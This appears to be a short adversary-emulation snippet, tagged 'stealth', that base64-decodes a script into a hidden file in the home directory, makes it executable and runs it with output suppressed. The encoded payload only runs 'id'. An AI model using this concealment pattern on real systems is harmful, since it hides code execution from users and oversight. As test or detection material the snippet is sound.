# tactic: stealth
# decode a payload to a file and run it
echo IyEvYmluL3NoCmlkCg== | base64 -d > $HOME/.p; chmod +x $HOME/.p; $HOME/.p >/dev/null
